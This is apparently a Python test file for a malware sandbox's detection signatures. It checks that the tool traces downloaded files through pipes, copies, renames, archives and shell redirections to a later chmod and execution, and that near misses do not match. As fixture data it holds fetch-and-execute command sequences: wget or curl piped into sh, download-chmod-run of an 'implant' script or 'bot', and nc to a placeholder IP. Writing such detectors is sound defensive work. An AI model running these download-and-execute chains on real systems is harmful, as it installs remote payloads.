"""Downloads followed from the fetcher to the file that ends up run: renames, links, copies,
pipes and shell redirections, each with the near miss that must not count."""

from __future__ import annotations

from aasee.processing.signatures import ReportIndex, all_signatures, run_signatures
from aasee.processing.signatures.commands import Command
from aasee.processing.signatures.provenance import fetches_to_stdout, reads_stdin, writes_stdout

from .builder import ROOT, Builder, resolve

IP = "203.0.113.5"
SIGNATURES = {cls.id: cls for cls in all_signatures()}


def _fetch(b: Builder, argv: list[str], image: str = "/bin/busybox", parent: str = ROOT) -> str:
    key = b.run(argv, parent=parent, image=image)
    b.connect(IP, 80, key=key)
    b.http(IP, "/payload", key=key)
    return key


def _downloads(b: Builder) -> dict[str, list[str]]:
    """Each downloaded path and the refs of the records that show how it got there."""
    ctx = ReportIndex(b.build())
    return {path: [s.found.ref for s in d.steps] for path, d in ctx.downloads.items()}


def _chain(b: Builder, signature_id: str = "execution_download_chmod_exec") -> list[str]:
    report = b.build()
    matches, errors = run_signatures(report, [SIGNATURES[signature_id]])
    assert errors == []
    assert matches, f"{signature_id} did not match"
    refs = [e.ref for e in matches[0].evidence]
    for ref in refs:
        resolve(report, ref)
    return refs


class TestThroughAPipe:
    def test_cat_stage_writes_what_the_fetcher_prints(self) -> None:
        b = Builder()
        wget = _fetch(b, ["busybox", "wget", "-q", "-O", "-", "http://x/p.bin"])
        cat = b.run(["cat"], image="/usr/bin/cat")
        b.write("/tmp/stage-c", key=cat)
        b.end(cat)
        b.end(wget)
        b.chmod("/tmp/stage-c", "0755")
        b.run(["/tmp/stage-c"])
        assert _chain(b) == [
            "/network/http/0",
            "/network/connections/0",
            "/files/written/0",
            "/files/chmod/0",
            "/processes/3/execs/0",
        ]
        report = b.build()
        assert resolve(report, "/files/written/0")["process"] == cat
        assert resolve(report, "/network/connections/0")["process"] == wget

    def test_tee_and_decoders_in_the_middle(self) -> None:
        b = Builder()
        curl = _fetch(b, ["curl", "-fsSL", "http://x/p.b64"], image="/usr/bin/curl")
        b64 = b.run(["base64", "-d"], image="/usr/bin/base64")
        tee = b.run(["tee", "/tmp/stage-g"], image="/usr/bin/tee")
        b.write("/tmp/stage-g", key=tee)
        for key in (tee, b64, curl):
            b.end(key)
        assert "/tmp/stage-g" in _downloads(b)

    def test_fetcher_saving_to_its_own_file_feeds_no_pipe(self) -> None:
        b = Builder()
        wget = _fetch(b, ["wget", "-q", "-O", "/tmp/a", "http://x/a"], image="/usr/bin/wget")
        cat = b.run(["cat"], image="/usr/bin/cat")
        b.write("/tmp/b", key=cat)
        b.end(cat)
        b.end(wget)
        assert set(_downloads(b)) == set()  # wget wrote nothing here: /tmp/a never appears

    def test_a_stage_reading_a_file_or_started_after_the_fetcher_ended(self) -> None:
        b = Builder()
        curl = _fetch(b, ["curl", "-s", "http://x/a"], image="/usr/bin/curl")
        local = b.run(["cat", "/etc/hostname"], image="/usr/bin/cat")  # reads its file
        b.read("/etc/hostname", key=local)
        b.write("/tmp/name", key=local)
        b.end(local)
        b.end(curl)
        later = b.run(["tee", "/tmp/later"], image="/usr/bin/tee")
        b.write("/tmp/later", key=later)
        other = _fetch(b, ["curl", "-s", "http://x/b"], image="/usr/bin/curl")
        python = b.run(["python3", "/opt/save.py"], image="/usr/bin/python3")  # not a mover
        b.write("/tmp/saved", key=python)
        b.end(python)
        b.end(other)
        assert set(_downloads(b)) == set()

    def test_device_files_are_not_downloads(self) -> None:
        b = Builder()
        curl = _fetch(b, ["curl", "-s", "http://x/a"], image="/usr/bin/curl")
        tee = b.run(["tee", "/dev/shm/x"], image="/usr/bin/tee")
        b.write("/dev/null", key=tee)
        b.write("/dev/shm/x", key=tee)
        b.end(tee)
        b.end(curl)
        assert set(_downloads(b)) == {"/dev/shm/x"}


class TestThroughAFile:
    def test_copy_of_a_download(self) -> None:
        b = Builder()
        wget = _fetch(b, ["busybox", "wget", "-O", "/tmp/dl-e", "http://x/e.bin"])
        b.write("/tmp/dl-e", key=wget)
        b.end(wget)
        cp = b.run(["cp", "/tmp/dl-e", "/tmp/stage-e"], image="/usr/bin/cp")
        b.read("/tmp/dl-e", key=cp)
        b.write("/tmp/stage-e", key=cp)
        b.chmod("/tmp/stage-e", "0755")
        b.run(["/tmp/stage-e"])
        assert _chain(b) == [
            "/network/http/0",
            "/network/connections/0",
            "/files/written/0",  # the fetcher's download
            "/files/read/0",  # cp reading it
            "/files/written/1",  # cp writing the copy
            "/files/chmod/0",
            "/processes/3/execs/0",
        ]

    def test_rename_link_install_and_archives(self) -> None:
        b = Builder()
        wget = _fetch(b, ["wget", "-O", "/tmp/a.tar", "http://x/a.tar"], image="/usr/bin/wget")
        b.write("/tmp/a.tar", key=wget)
        b.end(wget)
        b.rename("/tmp/a.tar", "/tmp/b.tar", key=b.run(["mv"], image="/usr/bin/mv"))
        b.link("/tmp/c.tar", "b.tar")
        tar = b.run(["tar", "xf", "/tmp/c.tar", "-C", "/tmp/x"], image="/usr/bin/tar")
        b.read("/tmp/c.tar", key=tar)
        b.write("/tmp/x/bot", key=tar)
        install = b.run(["install", "-m", "755", "/tmp/x/bot", "/usr/local/bin/bot"])
        b.read("/tmp/x/bot", key=install)
        b.write("/usr/local/bin/bot", key=install)
        assert set(_downloads(b)) == {
            "/tmp/a.tar",
            "/tmp/b.tar",
            "/tmp/c.tar",
            "/tmp/x/bot",
            "/usr/local/bin/bot",
        }

    def test_redirection_opened_before_the_mover_executed(self) -> None:
        """bash: the forked shell opens "> x" and then becomes cat, which reads the download."""
        b = Builder()
        wget = _fetch(b, ["wget", "-O", "/tmp/dl", "http://x/dl"], image="/usr/bin/wget")
        b.write("/tmp/dl", key=wget)
        b.end(wget)
        cat = b.fork()
        b.write("/tmp/stage", key=cat)
        b.exec_in(cat, "/usr/bin/cat", ["cat", "/tmp/dl"])
        b.read("/tmp/dl", key=cat)
        assert "/tmp/stage" in _downloads(b)

    def test_copies_of_other_files_and_reads_before_the_download(self) -> None:
        b = Builder()
        local = b.run(["cp", "/bin/true", "/tmp/mytrue"], image="/usr/bin/cp")
        b.read("/bin/true", key=local)
        b.write("/tmp/mytrue", key=local)
        early = b.run(["cp", "/tmp/late", "/tmp/early-copy"], image="/usr/bin/cp")
        b.read("/tmp/late", key=early)
        b.write("/tmp/early-copy", key=early)
        wget = _fetch(b, ["wget", "-O", "/tmp/late", "http://x/late"], image="/usr/bin/wget")
        b.write("/tmp/late", key=wget)
        # cp a b dir/: the copy of the local file was written before the download was read.
        both = b.run(["cp", "/etc/motd", "/tmp/late", "/tmp/dir/"], image="/usr/bin/cp")
        b.read("/etc/motd", key=both)
        b.write("/tmp/dir/motd", key=both)
        b.read("/tmp/late", key=both)
        b.write("/tmp/dir/late", key=both)
        # A program that is not a data mover reading the download writes its own output.
        py = b.run(["python3", "/opt/parse.py", "/tmp/late"], image="/usr/bin/python3")
        b.read("/tmp/late", key=py)
        b.write("/tmp/report.txt", key=py)
        assert set(_downloads(b)) == {"/tmp/late", "/tmp/dir/late"}


# The sample as the guest runs a "#!/bin/sh" script: the kernel makes argv[0] the shell.
SHELL_SCRIPT = "/tmp/implant.sh"


def _script_sample() -> Builder:
    b = Builder(SHELL_SCRIPT)
    b.report.processes[0].execs[0].argv = ["/bin/sh", SHELL_SCRIPT]
    return b


class TestThroughAShellRedirection:
    """dash opens "> x" itself, then forks the command: the shell writes, the child fetches."""

    def _redirected(self, b: Builder, argv: list[str], image: str = "/bin/busybox") -> str:
        b.write("/tmp/stage-j")  # the sample's shell (ROOT) opening the redirection
        return _fetch(b, argv, image=image)

    def test_fetcher_printing_into_the_shells_file(self) -> None:
        b = _script_sample()
        wget = self._redirected(b, ["busybox", "wget", "-q", "-O", "-", "http://x/j.bin"])
        b.end(wget)
        b.chmod("/tmp/stage-j", "0755")
        b.run(["/tmp/stage-j"])
        assert _chain(b) == [
            "/network/http/0",
            "/network/connections/0",
            "/files/written/0",
            "/files/chmod/0",
            "/processes/2/execs/0",
        ]

    def test_cat_of_a_download_into_the_shells_file(self) -> None:
        b = Builder("/bin/sh")
        wget = _fetch(b, ["wget", "-O", "/tmp/dl", "http://x/dl"], image="/usr/bin/wget")
        b.write("/tmp/dl", key=wget)
        b.end(wget)
        b.write("/tmp/stage-h")
        cat = b.run(["cat", "/tmp/dl"], image="/usr/bin/cat")
        b.read("/tmp/dl", key=cat)
        assert "/tmp/stage-h" in _downloads(b)

    def test_a_program_that_is_no_shell_opens_no_redirection(self) -> None:
        b = Builder("/tmp/sample")  # an ELF sample: its children's output is not its write
        self._redirected(b, ["busybox", "wget", "-q", "-O", "-", "http://x/j.bin"])
        assert "/tmp/stage-j" not in _downloads(b)

    def test_near_misses(self) -> None:
        b = _script_sample()
        # The next command saves to a file of its own: the shell's file is something else.
        self._redirected(b, ["busybox", "wget", "-O", "/tmp/own", "http://x/own"])
        # A stdout fetcher, but forked long after the shell opened the file.
        b.write("/tmp/long-before")
        b.time += 1.0
        _fetch(b, ["curl", "-s", "http://x/late"], image="/usr/bin/curl")
        # The next command prints a local file.
        b.write("/tmp/local-copy")
        b.run(["cat", "/etc/hostname"], image="/usr/bin/cat")
        # The next command talks to the network but is no known fetcher printing it.
        b.write("/tmp/unknown")
        _fetch(b, ["python3", "/opt/get.py"], image="/usr/bin/python3")
        downloads = _downloads(b)
        for path in ("/tmp/stage-j", "/tmp/long-before", "/tmp/local-copy", "/tmp/unknown"):
            assert path not in downloads, (path, downloads[path])


class TestInterpretedDownloads:
    def test_script_downloaded_then_handed_to_sh(self) -> None:
        b = Builder()
        wget = _fetch(b, ["wget", "-O", "i.sh", "http://x/i.sh"], image="/usr/bin/wget")
        b.write("/root/i.sh", key=wget)
        b.end(wget)
        b.run(["sh", "-x", "./i.sh"], image="/usr/bin/sh", cwd="/root")
        assert _chain(b, "execution_download_script_run") == [
            "/network/http/0",
            "/network/connections/0",
            "/files/written/0",
            "/processes/2/execs/0",
        ]

    def test_pipe_into_an_interpreter_in_a_script_file(self) -> None:
        b = Builder()
        wget = _fetch(b, ["busybox", "wget", "-qO-", "http://x/i.sh"])
        sh = b.run(["sh", "-s", "--", "arg"], image="/usr/bin/sh")
        b.end(wget)
        b.end(sh)
        assert _chain(b, "execution_pipe_to_shell") == [
            "/network/http/0",
            "/network/connections/0",
            "/processes/2/execs/0",
        ]


class TestCommandLines:
    def test_fetcher_output(self) -> None:
        cases = {
            ("wget", ("-q", "-O", "-", "u")): True,
            ("wget", ("-qO-", "u")): True,
            ("wget", ("--output-document=/dev/stdout", "u")): True,
            ("wget", ("-q", "u")): False,
            ("wget", ("-O", "/tmp/x", "u")): False,
            ("curl", ("-fsSL", "u")): True,
            ("curl", ("-o", "-", "u")): True,
            ("curl", ("-sSLo", "/tmp/x", "u")): False,
            ("curl", ("-fsSLO", "u")): False,
            ("curl", ("--output", "/tmp/x", "u")): False,
            ("nc", ("203.0.113.5", "80")): True,
        }
        for (name, args), expected in cases.items():
            assert fetches_to_stdout(Command(name, args)) is expected, (name, args)
        assert fetches_to_stdout(Command("cat", ())) is None

    def test_movers_stdin_and_stdout(self) -> None:
        assert reads_stdin(Command("tee", ("/tmp/x",)))
        assert reads_stdin(Command("cat", ()))
        assert reads_stdin(Command("cat", ("-",)))
        assert not reads_stdin(Command("cat", ("/etc/hostname",)))
        assert reads_stdin(Command("head", ("-n", "5")))
        assert not reads_stdin(Command("head", ("-n", "5", "/tmp/f")))
        assert reads_stdin(Command("base64", ("-d",)))
        assert reads_stdin(Command("dd", ("of=/tmp/x", "bs=1M")))
        assert not reads_stdin(Command("dd", ("if=/tmp/y", "of=/tmp/x")))
        assert reads_stdin(Command("tar", ("xz", "-C", "/tmp")))
        assert reads_stdin(Command("tar", ("-xzf", "-", "-C", "/tmp")))
        assert not reads_stdin(Command("tar", ("xzf", "/tmp/a.tgz")))
        assert not reads_stdin(Command("cp", ("a", "b")))
        assert writes_stdout(Command("cat", ("/tmp/dl",)))
        assert writes_stdout(Command("gunzip", ("-c", "/tmp/a.gz")))
        assert not writes_stdout(Command("gunzip", ("/tmp/a.gz",)))
        assert writes_stdout(Command("gunzip", ()))
        assert not writes_stdout(Command("openssl", ("enc", "-d", "-in", "a", "-out", "b")))
        assert not writes_stdout(Command("cp", ("a", "b")))
